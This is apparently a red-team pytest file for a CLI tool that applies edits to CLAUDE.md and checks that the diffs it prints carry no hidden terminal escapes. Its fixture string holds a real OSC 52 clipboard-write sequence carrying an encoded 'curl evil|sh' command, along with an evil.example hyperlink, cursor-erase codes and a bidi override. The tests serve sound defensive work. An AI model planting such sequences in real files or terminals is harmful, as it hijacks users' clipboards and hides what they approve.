"""A diff `learn apply` prints shows the file's lines as they read, never as a terminal acts on them.

The diff is printed before the person says yes, and its context lines are the file's own:
a cloned repository's CLAUDE.md (or `.claude/settings.local.json`) is the repository's
text. A line holding an OSC 52 sequence wrote to the clipboard of whoever ran
`learn apply` (paste it into a shell and it runs), a CSI sequence moved the cursor up and
erased the lines learn was adding, and a bidi override showed the rest of a line in
another order. learn's own lines were prose already (learn.report.prose); the lines
around them were printed as they were.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from _redteam_apply import said_and_applied, world
from test_apply_attacks import Point, World

from learn.report.check_install import FileChange
from learn.report.edits import FilePlan

# Clipboard write, hyperlink, cursor up and erase line, a right-to-left override.
ACTING = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]8;;https://evil.example/\x1b\\x\x1b[1A\x1b[2K\u202eok"
HIDDEN = ("\x1b", "\x07", "\u202e", "\x9b")

__all__ = ["world"]  # the fixture (tests/_redteam_apply.py)


def test_a_hostile_line_of_the_project_claude_md_reaches_no_terminal(world: World) -> None:
    shop = world.project("shop")
    (shop / "CLAUDE.md").write_text(f"# shop\n\n- Keep it small {ACTING}\n- Ship daily\x9b2J\n")
    out = said_and_applied(world, shop,
                           Point("use bun, not npm, in this repo", "use-bun", "Use bun, not npm."))
    assert out.apply.returncode == 0, out.apply.stderr
    assert "+- Use bun, not npm." in out.apply.stdout  # the diff is still shown
    assert " Keep it small" in out.apply.stdout  # and the file's lines around it
    for ch in HIDDEN:
        assert ch not in out.apply.stdout + out.apply.stderr, repr(ch)
    # The file keeps its bytes: only what is shown changes.
    assert ACTING in (shop / "CLAUDE.md").read_text()


def test_every_diff_learn_prints_shows_hidden_characters_as_spaces(tmp_path: Path) -> None:
    path = tmp_path / "CLAUDE.md"
    before = f"# x\r\n- old {ACTING}\r\n"
    plan = FilePlan(path=path, original=before, original_hash="", new_text=before + "- new\r\n")
    change = FileChange(tmp_path / "settings.local.json", before.encode(),
                        (before + "- new\r\n").encode())
    for diff in (plan.diff(), change.diff()):
        assert not any(ch in diff for ch in HIDDEN), repr(diff)
        assert "+- new\r\n" in diff  # a CRLF file's line endings are shown as they are


def test_a_cloned_gemini_settings_file_name_reaches_no_terminal(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from click.testing import CliRunner

    from learn.commands.apply import command
    from learn.records.proposal import Proposal, Quote, Verdict
    from learn.store.feedback import FeedbackStore
    from learn.store.proposals import ProposalBook

    for name in ("DATA", "CONFIG", "CACHE"):
        monkeypatch.setenv(f"LEARN_{name}_DIR", str(tmp_path / name.lower()))
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv("LEARN_DATABASE_URL", raising=False)
    project = tmp_path / "shop"
    (project / ".git").mkdir(parents=True)
    (project / "CLAUDE.md").write_text("# shop\n")
    # The repository's own Gemini settings: its context name holds the sequences.
    (project / ".gemini").mkdir()
    (project / ".gemini" / "settings.json").write_text(
        '{"context": {"fileName": "\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007\\u202e.md"}}')
    quotes = tuple(Quote(s, "use bun not npm", f"2026-03-2{i}T00:00:00+00:00", str(project))
                   for i, s in enumerate(("a", "b")))
    p = Proposal("directive", "use-bun", "use bun not npm", 2, 2, "2026-03-21T00:00:00+00:00",
                 quotes, verdict=Verdict(True, "Use bun, not npm.", "tooling", "project", 0.9))
    (tmp_path / "data").mkdir(exist_ok=True)
    with FeedbackStore.open(tmp_path / "data" / "learn.db") as store:
        ProposalBook(store).record([p], run_id=None, fallback_project=str(project))
    res = CliRunner().invoke(command, ["--project", str(project), "--yes"], color=True)
    assert "Gemini CLI gets nothing" in res.output, res.output
    for ch in HIDDEN:
        assert ch not in res.output, repr(ch)
